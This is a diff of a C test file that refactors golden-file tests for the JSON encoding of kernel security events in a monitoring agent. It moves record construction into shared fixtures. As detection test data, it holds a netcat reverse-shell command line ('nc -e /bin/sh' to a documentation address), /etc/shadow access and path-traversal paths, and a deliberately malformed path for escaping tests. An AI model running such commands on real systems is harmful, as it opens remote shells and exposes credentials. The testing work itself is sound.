@@ -1,7 +1,8 @@
 /* SPDX-License-Identifier: LGPL-2.1-or-later */
 /*
- * JSON encoding of every kernel record type against golden files in
- * tests/data/golden/, byte for byte.  Each output must also be one line of
+ * JSON encoding of every kernel record type (the records of
+ * event-fixtures.h) against golden files in tests/data/golden/, byte for
+ * byte, and the fields each one is about.  Each output must also be one line of
  * valid JSON and valid UTF-8 with no raw control byte, whatever the kernel
  * put in its strings.  CLAWOS_UPDATE_GOLDEN=1 rewrites the golden files.
  */
@@ -23,40 +24,11 @@
 #include "agent/macro.h"
 #include "agent/names.h"
 #include "agent/utf8.h"
+#include "event-fixtures.h"
 
 #ifndef CLAWOS_SOURCE_ROOT
 #define CLAWOS_SOURCE_ROOT "."
 #endif
-
-/* hdr.ts_ns + offset = 2026-01-02T03:04:05.123456789Z */
-#define TEST_BOOT_NS 1000000000000ULL
-#define TEST_REALTIME_NS 1767323045123456789LL
-
-static const struct event_context test_ctx = {
-    .realtime_offset_ns = TEST_REALTIME_NS - (int64_t)TEST_BOOT_NS,
-    .host = "testhost",
-    .exe = "/usr/bin/bash",
-    .cgroup_path = "/system.slice/test.service",
-    .user = "alice",
-    .ppid = 1,
-};
-
-static void hdr_fill(struct clawos_event_hdr *h, unsigned type, size_t size)
-{
-	h->type = (uint8_t)type;
-	h->version = CLAWOS_ABI_VERSION;
-	h->size = (uint16_t)size;
-	h->cpu = 3;
-	h->seq = 42;
-	h->pid = 4242;
-	h->tid = 4243;
-	h->ppid = 4000;
-	h->ts_ns = TEST_BOOT_NS;
-	h->uid = 1000;
-	h->gid = 1000;
-	h->cgroup_id = 8421;
-	memcpy(h->comm, "bash", 5);
-}
 
 /* ---- checks on any encoded line ---- */
 
@@ -195,38 +167,24 @@ static bool has_key(struct json_object *o, const char *a, const char *b)
 	return b ? json_object_object_get_ex(x, b, NULL) : true;
 }
 
-/* ---- exec ---- */
-
-static void exec_set_args(struct clawos_exec_event *e, const char *const *argv, unsigned argc)
+/* The fixture's record encoded, checked and compared with its golden file. */
+static struct json_object *fixture_golden(const char *name)
 {
-	size_t off = 0;
+	union fixture_record r;
+	struct event_context ctx;
 
-	for (unsigned i = 0; i < argc; i++) {
-		size_t n = strlen(argv[i]) + 1;
-
-		assert_true(off + n <= sizeof(e->args));
-		memcpy(e->args + off, argv[i], n);
-		off += n;
-	}
-	e->args_len = (uint16_t)off;
-	e->hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + off); /* variable size */
+	fixture_build(fixture_named(name), &r, &ctx);
+	return check_golden(name, event_to_json(&r.hdr, &ctx));
 }
+
+/* ---- exec ---- */
 
 static void test_exec(void **state)
 {
 	static const char *const argv[] = {"/bin/sh", "-c",   "echo \"hello world\" > '/tmp/a b'",
 					   "",	      "it's", "back\\slash"};
-	struct clawos_exec_event e = {};
-	struct json_object *back, *a;
+	struct json_object *back = fixture_golden("exec"), *a;
 
-	hdr_fill(&e.hdr, CLAWOS_EV_EXEC, sizeof(e));
-	snprintf(e.filename, sizeof(e.filename), "/usr/bin/dash");
-	exec_set_args(&e, argv, ELEMENTSOF(argv));
-	e.flags = CLAWOS_EXEC_F_ARGS_TRUNCATED;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.old_tid = 4243;
-	snprintf(e.cwd, sizeof(e.cwd), "/home/alice/src");
-	back = check_golden("exec", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "event", NULL), "exec");
 	assert_string_equal(get_str(back, "time", NULL), "2026-01-02T03:04:05.123456789Z");
 	assert_true(json_object_object_get_ex(json_object_object_get(back, "exec"), "argv", &a));
@@ -238,19 +196,8 @@ static void test_exec(void **state)
 
 static void test_exec_failed(void **state)
 {
-	static const char *const argv[] = {"nosuch"};
-	struct clawos_exec_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("exec-failed");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_EXEC, sizeof(e));
-	e.hdr.ppid = 0; /* the context's ppid fills in */
-	snprintf(e.filename, sizeof(e.filename), "/usr/local/bin/nosuch");
-	exec_set_args(&e, argv, ELEMENTSOF(argv));
-	e.flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT | CLAWOS_EXEC_F_CWD_TRUNCATED;
-	e.ret = -ENOENT;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.old_tid = 4243;
-	back = check_golden("exec-failed", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "exec", "error"), "ENOENT");
 	assert_string_equal(get_str(back, "process", "ppid"), "1");
 	json_object_put(back);
@@ -259,27 +206,11 @@ static void test_exec_failed(void **state)
 /* ---- file_access ---- */
 
 /* Every byte that needs escaping or cleaning, in one kernel path. */
-static const char hostile_path[] = "/tmp/q\"b\\n\nt\tesc\x1b"
-				   "c\x01\x1f\x7f"
-				   "|ff\xff|e2\xe2\x82x|c0\xc0\xaf|ed\xed\xa0\x80|ok\xc3\xa9\xe2\x82\xac";
-
 static void test_file_escapes(void **state)
 {
-	struct clawos_file_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("file-escapes");
 	const char *p;
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
-	memcpy(e.hdr.comm, "evil\nname\xff\x1b", 12);
-	assert_true(sizeof(hostile_path) <= sizeof(e.path));
-	memcpy(e.path, hostile_path, sizeof(hostile_path));
-	e.path_len = sizeof(hostile_path);
-	e.path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_NO_RESULT;
-	e.op = CLAWOS_FILE_OP_FILE_OPEN;
-	e.mechanism = CLAWOS_MECH_LSM;
-	e.flags = 0x8000 | 02; /* O_LARGEFILE | O_RDWR */
-	e.dirfd = -100;
-	back = check_golden("file-escapes", event_to_json(&e.hdr, &test_ctx));
 	p = get_str(back, "file", "path");
 	assert_non_null(p);
 	/* escaped characters come back as themselves ... */
@@ -305,14 +236,14 @@ static void test_file_unterminated(void **state)
 	struct json_object *back;
 	const char *p;
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
+	fixture_hdr(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
 	memset(e.path, 'a', sizeof(e.path));
 	e.path[0] = '/';
 	e.path[sizeof(e.path) - 2] = '\xe2';
 	e.path[sizeof(e.path) - 1] = '\x82';
 	e.path_flags = CLAWOS_PATH_F_TRUNCATED;
 	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	back = json_tokener_parse(event_to_json(&e.hdr, &test_ctx));
+	back = json_tokener_parse(event_to_json(&e.hdr, &fixture_ctx));
 	assert_non_null(back);
 	p = get_str(back, "file", "path");
 	assert_int_equal(strlen(p), sizeof(e.path) - 2 + 6);
@@ -322,44 +253,18 @@ static void test_file_unterminated(void **state)
 
 static void test_file_normalized(void **state)
 {
-	static const char raw[] = "/etc/./x";
-	struct clawos_file_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("file-normalized");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
-	memcpy(e.hdr.comm, "cat", 4);
-	memcpy(e.path, raw, sizeof(raw));
-	e.path_len = sizeof(raw);
-	e.path_flags = CLAWOS_PATH_F_RESOLVED;
-	e.op = CLAWOS_FILE_OP_OPEN;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.flags = 02000000; /* O_RDONLY | O_CLOEXEC */
-	e.dirfd = -100;
-	e.ret = 3;
-	back = check_golden("file-normalized", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "file", "path"), "/etc/x");
-	assert_string_equal(get_str(back, "file", "path_raw"), raw);
+	assert_string_equal(get_str(back, "file", "path_raw"), "/etc/./x");
 	assert_string_equal(get_str(back, "file", "path_resolved"), "true");
 	json_object_put(back);
 }
 
 static void test_file_enoent(void **state)
 {
-	static const char path[] = "/nonexistent/secret";
-	struct clawos_file_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("file-enoent");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
-	memcpy(e.path, path, sizeof(path));
-	e.path_len = sizeof(path);
-	e.path_flags = CLAWOS_PATH_F_OPENAT2;
-	e.op = CLAWOS_FILE_OP_OPEN;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.flags = 01 | 0100 | 01000 | 0x80000000u; /* O_WRONLY|O_CREAT|O_TRUNC + an unknown bit */
-	e.mode = 0644;
-	e.dirfd = 5;
-	e.ret = -ENOENT;
-	back = check_golden("file-enoent", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "file", "error"), "ENOENT");
 	assert_string_equal(get_str(back, "file", "result"), "-2");
 	assert_string_equal(get_str(back, "file", "syscall"), "openat2");
@@ -370,21 +275,8 @@ static void test_file_enoent(void **state)
 /* O_CREAT on a name that did not exist: the kernel marked it created */
 static void test_file_created(void **state)
 {
-	static const char path[] = "/tmp/x/../payload.sh";
-	struct clawos_file_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("file-created");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
-	memcpy(e.path, path, sizeof(path));
-	e.path_len = sizeof(path);
-	e.path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_CREATED;
-	e.op = CLAWOS_FILE_OP_OPEN;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.flags = 01 | 0100 | 01000; /* O_WRONLY|O_CREAT|O_TRUNC, as creat(2) */
-	e.mode = 0755;
-	e.dirfd = -100;
-	e.ret = 3;
-	back = check_golden("file-created", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "file", "created"), "true");
 	assert_string_equal(get_str(back, "file", "path"), "/tmp/payload.sh");
 	json_object_put(back);
@@ -393,36 +285,21 @@ static void test_file_created(void **state)
 /* What was opened differs from what was asked for, in a chroot */
 static void test_file_resolved(void **state)
 {
-	static const char path[] = "/etc/shadow", req[] = "../../../../etc/shadow", root[] = "/srv/jail";
-	struct clawos_file_event e = {};
-	struct json_object *back;
+	union fixture_record r;
+	struct event_context ctx;
+	struct json_object *back = fixture_golden("file-resolved");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_FILE, CLAWOS_FILE_FIXED_SIZE + sizeof(req));
-	memcpy(e.hdr.comm, "cat", 4);
-	memcpy(e.path, path, sizeof(path));
-	e.path_len = sizeof(path);
-	memcpy(e.requested, req, sizeof(req));
-	e.requested_len = sizeof(req);
-	memcpy(e.root, root, sizeof(root));
-	e.root_len = sizeof(root);
-	e.xflags = CLAWOS_FILE_X_FROM_FILE | CLAWOS_FILE_X_IDENTITY | CLAWOS_FILE_X_ROOT;
-	e.path_flags = CLAWOS_PATH_F_RESOLVED;
-	e.op = CLAWOS_FILE_OP_OPEN;
-	e.mechanism = CLAWOS_MECH_TRACEPOINT;
-	e.flags = 02000000;
-	e.dirfd = -100;
-	e.ret = 3;
-	back = check_golden("file-resolved", event_to_json(&e.hdr, &test_ctx));
-	assert_string_equal(get_str(back, "file", "path"), path);
-	assert_string_equal(get_str(back, "file", "requested_path"), req);
-	assert_string_equal(get_str(back, "file", "root"), root);
+	assert_string_equal(get_str(back, "file", "path"), "/etc/shadow");
+	assert_string_equal(get_str(back, "file", "requested_path"), "../../../../etc/shadow");
+	assert_string_equal(get_str(back, "file", "root"), "/srv/jail");
 	assert_string_equal(get_str(back, "file", "protected_by"), "identity");
 	assert_false(has_key(back, "file", "path_raw"));
 	json_object_put(back);
 	/* without requested_len the tail is not read: no requested_path */
-	e.requested_len = 0;
-	e.xflags = CLAWOS_FILE_X_FROM_FILE;
-	back = json_tokener_parse(event_to_json(&e.hdr, &test_ctx));
+	fixture_build(fixture_named("file-resolved"), &r, &ctx);
+	r.file.requested_len = 0;
+	r.file.xflags = CLAWOS_FILE_X_FROM_FILE;
+	back = json_tokener_parse(event_to_json(&r.hdr, &ctx));
 	assert_false(has_key(back, "file", "requested_path"));
 	assert_false(has_key(back, "file", "root"));
 	assert_false(has_key(back, "file", "protected_by"));
@@ -433,16 +310,8 @@ static void test_file_resolved(void **state)
 
 static void test_network_connect4(void **state)
 {
-	struct clawos_net_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("network-connect4");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_NET, sizeof(e));
-	memcpy(e.hdr.comm, "curl", 5);
-	e.addr = htonl(0xc000020a); /* 192.0.2.10 */
-	e.port = htons(443);
-	e.op = CLAWOS_NET_OP_CONNECT;
-	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_TCP, CLAWOS_MECH_CGROUP);
-	back = check_golden("network-connect4", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "network", "address"), "192.0.2.10");
 	assert_string_equal(get_str(back, "network", "port"), "443");
 	assert_string_equal(get_str(back, "network", "side"), "remote");
@@ -452,17 +321,8 @@ static void test_network_connect4(void **state)
 
 static void test_network_bind6(void **state)
 {
-	static const uint8_t addr[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 1};
-	struct clawos_net6_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("network-bind6");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_NET6, sizeof(e));
-	memcpy(e.hdr.comm, "nginx", 6);
-	memcpy(e.addr, addr, sizeof(addr));
-	e.port = htons(8080);
-	e.op = CLAWOS_NET_OP_BIND;
-	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_UDP, CLAWOS_MECH_LSM);
-	back = check_golden("network-bind6", event_to_json(&e.hdr, &test_ctx));
 	/* one JSON record type for both wire types */
 	assert_string_equal(get_str(back, "event", NULL), "network");
 	assert_string_equal(get_str(back, "network", "family"), "inet6");
@@ -473,17 +333,8 @@ static void test_network_bind6(void **state)
 
 static void test_network_socket_raw(void **state)
 {
-	struct clawos_net_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("network-socket-raw");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_NET, sizeof(e));
-	memcpy(e.hdr.comm, "ping", 5);
-	e.sock.family = 2; /* AF_INET */
-	e.sock.type = 3;   /* SOCK_RAW */
-	e.port = 1;	   /* IPPROTO_ICMP, host order */
-	e.op = CLAWOS_NET_OP_CREATE;
-	e.info = CLAWOS_NET_INFO(CLAWOS_PROTO_RAW, CLAWOS_MECH_CGROUP);
-	back = check_golden("network-socket-raw", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "network", "op"), "socket_create");
 	assert_string_equal(get_str(back, "network", "type"), "SOCK_RAW");
 	assert_false(has_key(back, "network", "address"));
@@ -494,26 +345,8 @@ static void test_network_socket_raw(void **state)
 
 static void test_cgroup(void **state)
 {
-	static const char path[] = "/system.slice/nginx.service";
-	struct clawos_cgroup_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("cgroup");
 
-	e.hdr.type = CLAWOS_EV_CGROUP;
-	e.hdr.version = CLAWOS_ABI_VERSION;
-	e.hdr.size = sizeof(e);
-	e.hdr.cpu = CLAWOS_CPU_USER;
-	e.hdr.seq = 7;
-	e.hdr.ts_ns = TEST_BOOT_NS;
-	e.hdr.cgroup_id = 8421;
-	e.rx_packets = 10;
-	e.rx_bytes = 1500;
-	e.tx_packets = 20;
-	e.tx_bytes = 1ULL << 40;
-	e.interval_ns = 30000000000ULL;
-	memcpy(e.path, path, sizeof(path));
-	back = check_golden(
-	    "cgroup", event_to_json(&e.hdr, &(struct event_context){.realtime_offset_ns = test_ctx.realtime_offset_ns,
-								    .host = "testhost"}));
 	/* synthesised by user space: no CPU, no process */
 	assert_true(has_key(back, "cpu", NULL));
 	assert_null(json_object_object_get(back, "cpu"));
@@ -523,18 +356,8 @@ static void test_cgroup(void **state)
 
 static void test_syscall(void **state)
 {
-	struct clawos_syscall_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("syscall");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_SYSCALL, sizeof(e));
-	e.nr = 257; /* openat */
-	e.nargs = 3;
-	e.args[0] = (uint64_t)-100;
-	e.args[1] = 0x7ffd12345678ULL;
-	e.args[2] = 0x80000;
-	e.args[3] = 0xdead; /* not captured: beyond nargs */
-	e.mechanism = CLAWOS_MECH_TP_BTF;
-	back = check_golden("syscall", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "syscall", "name"), "openat");
 	assert_int_equal(
 	    json_object_array_length(json_object_object_get(json_object_object_get(back, "syscall"), "args")), 3);
@@ -543,41 +366,8 @@ static void test_syscall(void **state)
 
 static void test_anomaly(void **state)
 {
-	static const struct {
-		uint32_t pid;
-		const char *comm;
-	} anc[] = {{4000, "bash"}, {3000, "sshd"}, {1, "systemd"}};
-	static const struct clawos_syscall_count top[] = {{0, 4000}, {1, 800}, {999, 200}};
-	struct clawos_anomaly_event e = {};
-	struct event_context ctx;
-	struct json_object *back, *a;
+	struct json_object *back = fixture_golden("anomaly"), *a;
 
-	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
-	e.hdr.cpu = CLAWOS_CPU_USER;
-	e.kind = CLAWOS_ANOMALY_SYSCALL_RATE;
-	e.severity = CLAWOS_SEV_HIGH;
-	e.flags = 0;
-	e.suppressed = 2;
-	e.observed = 5000;
-	e.threshold = 1000;
-	e.mechanism = CLAWOS_MECH_USER;
-	snprintf(e.rule, sizeof(e.rule), "syscall_rate");
-	snprintf(e.description, sizeof(e.description), "5000 syscalls/s exceeds the threshold of 1000/s");
-	e.ancestry_len = ELEMENTSOF(anc);
-	for (size_t i = 0; i < ELEMENTSOF(anc); i++) {
-		e.ancestry[i].pid = anc[i].pid;
-		snprintf(e.ancestry[i].comm, sizeof(e.ancestry[i].comm), "%s", anc[i].comm);
-	}
-	e.top_len = ELEMENTSOF(top);
-	memcpy(e.top, top, sizeof(top));
-	/* the target and the ancestors' executables come from user space */
-	ctx = test_ctx;
-	ctx.target_name = "agent-7";
-	ctx.target_root_pid = 3999;
-	ctx.target_session = 17;
-	ctx.ancestry_exe[0] = "/usr/bin/bash";
-	ctx.ancestry_exe[1] = "/usr/sbin/sshd";
-	back = check_golden("anomaly", event_to_json(&e.hdr, &ctx));
 	a = json_object_object_get(back, "anomaly");
 	assert_int_equal(json_object_array_length(json_object_object_get(a, "ancestry")), 3);
 	assert_int_equal(json_object_array_length(json_object_object_get(a, "top_syscalls")), 3);
@@ -592,20 +382,8 @@ static void test_anomaly(void **state)
 
 static void test_anomaly_file_violation(void **state)
 {
-	struct clawos_anomaly_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("anomaly-file-violation");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
-	e.kind = CLAWOS_ANOMALY_FILE_VIOLATION;
-	e.severity = CLAWOS_SEV_CRITICAL;
-	e.flags = CLAWOS_ANOMALY_F_ENFORCED;
-	e.observed = 1;
-	e.threshold = 0;
-	e.mechanism = CLAWOS_MECH_LSM;
-	snprintf(e.rule, sizeof(e.rule), "protected_path");
-	snprintf(e.description, sizeof(e.description), "write to a protected file");
-	snprintf(e.subject, sizeof(e.subject), "/etc/shadow");
-	back = check_golden("anomaly-file-violation", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "anomaly", "subject"), "/etc/shadow");
 	assert_string_equal(get_str(back, "anomaly", "enforced"), "true");
 	assert_false(has_key(back, "anomaly", "top_syscalls"));
@@ -617,49 +395,15 @@ static void test_anomaly_file_violation(void **state)
  * record's fields (a rule id is longer than the wire's 31 bytes). */
 static void test_anomaly_sigma(void **state)
 {
-	static const char *const tags[] = {"attack.execution", "attack.t1059.004"};
-	static const char *const names[] = {"Image", "CommandLine"};
-	/* a value is bounded by its length, not by a NUL */
-	static const char *const values[] = {"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444 and more"};
-	static const uint32_t lens[] = {11, 28};
-	struct event_sigma sg = {
-	    .id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
-	    .title = "Linux Reverse Shell Indicator",
-	    .level = "critical",
-	    .status = "test",
-	    .category = "process_creation",
-	    .file = "/etc/clawos-ebpf/sigma/rev.yml",
-	    .tags = tags,
-	    .n_tags = ELEMENTSOF(tags),
-	    .matched_names = names,
-	    .matched_values = values,
-	    .matched_lens = lens,
-	    .n_matched = ELEMENTSOF(names),
-	    .subject = "/usr/bin/nc",
-	    .trigger_event = "exec",
-	    .trigger_cpu = 1,
-	    .trigger_seq = 777,
-	};
-	struct clawos_anomaly_event e = {};
-	struct event_context ctx = test_ctx;
-	struct json_object *back, *sigma;
+	union fixture_record r;
+	struct event_context ctx;
+	struct json_object *back = fixture_golden("anomaly-sigma"), *sigma;
 
-	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
-	e.hdr.cpu = CLAWOS_CPU_USER;
-	e.kind = CLAWOS_ANOMALY_SIGMA;
-	e.severity = CLAWOS_SEV_CRITICAL;
-	e.mechanism = CLAWOS_MECH_USER;
-	snprintf(e.rule, sizeof(e.rule), "%s", sg.id); /* cut: the JSON has it whole */
-	snprintf(e.description, sizeof(e.description), "%s", sg.title);
-	e.ancestry_len = 1;
-	e.ancestry[0].pid = 4000;
-	snprintf(e.ancestry[0].comm, sizeof(e.ancestry[0].comm), "bash");
-	ctx.sigma = &sg;
-	back = check_golden("anomaly-sigma", event_to_json(&e.hdr, &ctx));
 	assert_string_equal(get_str(back, "anomaly", "kind"), "sigma");
 	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");
 	assert_string_equal(get_str(back, "anomaly", "subject"), "/usr/bin/nc");
 	sigma = json_object_object_get(json_object_object_get(back, "anomaly"), "sigma");
+	/* a matched value is bounded by its length, not by a NUL */
 	assert_string_equal(
 	    json_object_get_string(json_object_object_get(json_object_object_get(sigma, "matched"), "CommandLine")),
 	    "nc -e /bin/sh 192.0.2.1 4444");
@@ -668,8 +412,9 @@ static void test_anomaly_sigma(void **state)
 			 777);
 	json_object_put(back);
 	/* without its context (a fuzzed or foreign record) it is still one object */
+	fixture_build(fixture_named("anomaly-sigma"), &r, &ctx);
 	ctx.sigma = NULL;
-	back = json_tokener_parse(event_to_json(&e.hdr, &ctx));
+	back = json_tokener_parse(event_to_json(&r.hdr, &ctx));
 	assert_non_null(back);
 	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b"); /* 31 bytes */
 	assert_null(json_object_object_get(json_object_object_get(back, "anomaly"), "sigma"));
@@ -680,27 +425,18 @@ static void test_anomaly_sigma(void **state)
 
 static void test_process_fork_exit(void **state)
 {
-	struct clawos_proc_event e = {};
-	struct json_object *back;
+	struct json_object *back = fixture_golden("process-fork");
 
-	hdr_fill(&e.hdr, CLAWOS_EV_PROC, sizeof(e));
-	e.op = CLAWOS_PROC_FORK;
-	e.child_pid = 4300;
-	back = check_golden("process-fork", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "lifecycle", "op"), "fork");
 	assert_string_equal(get_str(back, "lifecycle", "child_pid"), "4300");
 	json_object_put(back);
 
-	e.op = CLAWOS_PROC_EXIT;
-	e.child_pid = 0;
-	e.exit_code = 3 << 8; /* exit(3) */
-	back = check_golden("process-exit", event_to_json(&e.hdr, &test_ctx));
+	back = fixture_golden("process-exit");
 	assert_string_equal(get_str(back, "lifecycle", "exit_code"), "3");
 	assert_false(has_key(back, "lifecycle", "signal"));
 	json_object_put(back);
 
-	e.exit_code = 9; /* killed by SIGKILL */
-	back = check_golden("process-killed", event_to_json(&e.hdr, &test_ctx));
+	back = fixture_golden("process-killed");
 	assert_string_equal(get_str(back, "lifecycle", "signal"), "9");
 	assert_false(has_key(back, "lifecycle", "exit_code"));
 	json_object_put(back);
@@ -813,18 +549,18 @@ static void test_format_rfc3339(void **state)
 
 	assert_int_equal(format_rfc3339(0, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "1970-01-01T00:00:00.000000000Z");
-	assert_int_equal(format_rfc3339(TEST_REALTIME_NS, buf, sizeof(buf)), 0);
+	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "2026-01-02T03:04:05.123456789Z");
 	assert_int_equal(format_rfc3339(1000000001ULL, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "1970-01-01T00:00:01.000000001Z");
-	assert_int_equal(format_rfc3339(TEST_REALTIME_NS, buf, 30), -ENOSPC);
+	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS, buf, 30), -ENOSPC);
 	/* the second's text is cached: the same second, other nanoseconds,
 	 * then the next second and a year boundary */
-	assert_int_equal(format_rfc3339(TEST_REALTIME_NS - 123456789, buf, sizeof(buf)), 0);
+	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS - 123456789, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "2026-01-02T03:04:05.000000000Z");
-	assert_int_equal(format_rfc3339(TEST_REALTIME_NS + 876543210, buf, sizeof(buf)), 0);
+	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS + 876543210, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "2026-01-02T03:04:05.999999999Z");
-	assert_int_equal(format_rfc3339(TEST_REALTIME_NS + 876543211, buf, sizeof(buf)), 0);
+	assert_int_equal(format_rfc3339(FIXTURE_REALTIME_NS + 876543211, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "2026-01-02T03:04:06.000000000Z");
 	assert_int_equal(format_rfc3339(1767225599999999999ULL, buf, sizeof(buf)), 0);
 	assert_string_equal(buf, "2025-12-31T23:59:59.999999999Z");
